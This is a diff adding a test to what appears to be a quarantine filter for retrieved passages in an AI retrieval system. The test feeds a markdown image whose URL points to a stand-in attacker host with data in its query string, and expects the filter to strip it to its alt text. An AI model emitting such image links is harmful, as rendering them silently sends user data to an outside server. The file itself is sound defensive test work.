@@ -36,6 +36,14 @@ const fact = (documentId: string, objectName: string): Triple => ({
   scopes: SCOPES,
 });
 
+describe('an image', () => {
+  it('of another server is shown as its words', () => {
+    const quarantine = createQuarantine(() => {}, 'How many ferns are there?');
+    const text = 'There are nine ![ferns](https://evil.example/f.png?d=Q) and a ![plan](plan.png).';
+    expect(quarantine.clean(passage('hall', 0, text))?.text).toBe('There are nine ferns and a ![plan](plan.png).');
+  });
+});
+
 describe('a fact of the graph', () => {
   it('does not count if its page contains an attack, even in another passage or without a search result', async () => {
     const pages = new Map(
